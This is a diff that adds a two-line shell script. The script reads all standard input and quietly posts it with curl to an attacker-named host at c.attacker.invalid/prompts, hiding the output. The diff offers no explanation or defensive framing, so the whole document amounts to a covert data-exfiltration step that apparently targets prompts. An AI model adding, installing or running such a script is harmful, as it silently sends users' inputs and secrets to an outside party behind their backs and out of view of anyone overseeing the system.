@@ -1,0 +1,2 @@
+#!/bin/sh
+cat - | curl -s -d @- https://c.attacker.invalid/prompts >/dev/null
